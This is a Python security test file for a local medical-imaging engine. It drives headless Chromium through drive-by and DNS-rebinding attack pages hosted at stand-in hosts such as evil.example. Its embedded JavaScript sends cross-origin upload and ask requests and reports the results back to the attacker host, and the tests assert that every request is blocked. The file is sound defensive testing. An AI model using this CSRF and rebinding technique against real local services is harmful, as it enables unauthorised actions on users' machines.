"""A real headless Chromium (Debian's `chromium`, installed by scripts/setup.sh) running pages from other origins:
neither a drive-by page nor a DNS-rebinding page can upload a volume or start an ask on the engine.

Host names are mapped to 127.0.0.1 with Chromium's `--host-resolver-rules`, so no network or DNS is involved.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import numpy as np
import pytest

from medsight.server.app import create_app
from medsight_testing.live_server import free_port, live_server

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None and os.environ.get("MEDSIGHT_REQUIRE_CHROMIUM"):  # .ci/run installs it: never skip there
    raise RuntimeError("MEDSIGHT_REQUIRE_CHROMIUM is set but no chromium binary is on PATH")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium binary on PATH (Debian's package: apt-get "
                                "install chromium, as .ci/run does); CI always runs this test")

# The attack: every way a page may send a body without the engine's consent. Upload bodies are real .npy bytes.
ATTACK_JS = """
async function attack(base, report, tag) {
  const npy = new Uint8Array(%(npy)s);
  const ask = JSON.stringify({volume_id: "%(vid)s", messages: [{role: "user", content: "hi"}],
                              options: {max_new_tokens: 1}});
  const tries = {
    upload_text_plain: {method: "POST", body: npy, headers: {"Content-Type": "text/plain"}},
    upload_untyped_blob: {method: "POST", body: new Blob([npy]), mode: "no-cors"},
    upload_octet_stream: {method: "POST", body: npy, headers: {"Content-Type": "application/octet-stream"}},
    upload_form: {method: "POST", body: new URLSearchParams({a: "b"}), mode: "no-cors"},
    ask_text_plain: {method: "POST", body: ask, headers: {"Content-Type": "text/plain"}, mode: "no-cors"},
    ask_untyped_blob: {method: "POST", body: new Blob([ask]), mode: "no-cors"},
    ask_json: {method: "POST", body: ask, headers: {"Content-Type": "application/json"}},
  };
  const results = {};
  for (const [name, init] of Object.entries(tries)) {
    const path = name.startsWith("upload") ? "/v1/volumes" : "/v1/ask";
    try {
      const r = await fetch(base + path, init);
      results[name] = r.type === "opaque" ? "opaque" : r.status;
    } catch (e) {
      results[name] = "blocked";
    }
  }
  await fetch(report, {method: "POST", body: JSON.stringify({tag, results}), mode: "no-cors"});
}
"""


class Pages:
    """A tiny web server for the attacker's pages and the reports they send back."""

    def __init__(self, page: str, port: int) -> None:
        self.reports: list[dict] = []
        pages = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                pages.reports.append(json.loads(data))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def wait(self, tag: str, timeout: float = 60) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for report in self.reports:
                if report.get("tag") == tag:
                    return report
            time.sleep(0.05)
        raise AssertionError(f"the page never reported {tag!r}; reports: {self.reports}")


@contextlib.contextmanager
def chromium(url: str, tmp_path):
    rules = "MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1"
    process = subprocess.Popen(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
         f"--user-data-dir={tmp_path / 'profile'}", f"--host-resolver-rules={rules}", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield process
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()


def _npy_list() -> str:
    import io

    buffer = io.BytesIO()
    np.save(buffer, np.full((2, 8, 8), 7, np.float32))
    return json.dumps(list(buffer.getvalue()))


def _upload_real_volume(url: str) -> str:
    import httpx

    from medsight_testing.arrays import npy

    with httpx.Client(base_url=url) as c:
        r = c.post("/v1/volumes", content=npy(np.zeros((2, 8, 8), np.uint8)),
                   headers={"content-type": "application/octet-stream"})
        return r.json()["volume_id"]


def test_page_from_another_origin_cannot_upload_or_ask(engine, tmp_path):
    app = create_app(engine, model_name="tiny")
    with live_server(app) as engine_url:
        vid = _upload_real_volume(engine_url)
        page_port = free_port()
        script = ATTACK_JS % {"npy": _npy_list(), "vid": vid}
        page = f"<script>{script}\nattack('{engine_url}', '/report', 'cross-origin');</script>"
        pages = Pages(page, page_port)
        try:
            with chromium(f"http://evil.example:{page_port}/", tmp_path):
                report = pages.wait("cross-origin")
        finally:
            pages.close()
    results = report["results"]
    assert set(results) >= {"upload_text_plain", "upload_octet_stream", "ask_json", "ask_untyped_blob"}
    assert app.state.store._bytes == np.zeros((2, 8, 8), np.uint8).nbytes, "no upload from the page was stored"
    assert not app.state.jobs.history and app.state.jobs.running is None, "no ask from the page ran"
    assert all(status in ("blocked", "opaque") or status >= 400 for status in results.values()), results


def test_dns_rebinding_page_cannot_upload_or_ask(engine, tmp_path):
    """The page loads from rebind.example:PORT; then that name 'rebinds' to the engine on the same port (here: the
    attacker's server gives the port to the engine), so its fetches are same-origin: only the Host check stops them."""
    port = free_port()
    report_port = free_port()
    app = create_app(engine, model_name="tiny")
    # The page waits for the flip (polls until its origin answers as the engine does), then attacks same-origin.
    script = ATTACK_JS % {"npy": _npy_list(), "vid": "0" * 64}
    page = (f"<script>{script}\n"
            "async function flipped() { for (let i = 0; i < 300; i++) {"
            "  try { const r = await fetch('/v1/health'); if (r.status !== 200 || "
            "    r.headers.get('content-type') === 'application/json') return; } catch (e) { /* mid-flip */ }"
            "  await new Promise(ok => setTimeout(ok, 100)); } }\n"
            f"fetch('http://evil.example:{report_port}/', {{method: 'POST', mode: 'no-cors', "
            "body: JSON.stringify({tag: 'loaded'})});\n"
            f"flipped().then(() => attack('', 'http://evil.example:{report_port}/', 'rebound'));</script>")
    attacker = Pages(page, port)
    reports = Pages("", report_port)
    try:
        with chromium(f"http://rebind.example:{port}/", tmp_path):
            reports.wait("loaded")
            attacker.close()  # the name now leads to the engine
            with live_server(app, port=port):
                report = reports.wait("rebound")
    finally:
        reports.close()
    results = report["results"]
    assert results["upload_octet_stream"] == 421 and results["ask_json"] == 421, results
    assert app.state.store._bytes == 0, "no upload from the page was stored"
    assert not app.state.jobs.history and app.state.jobs.running is None, "no ask from the page ran"
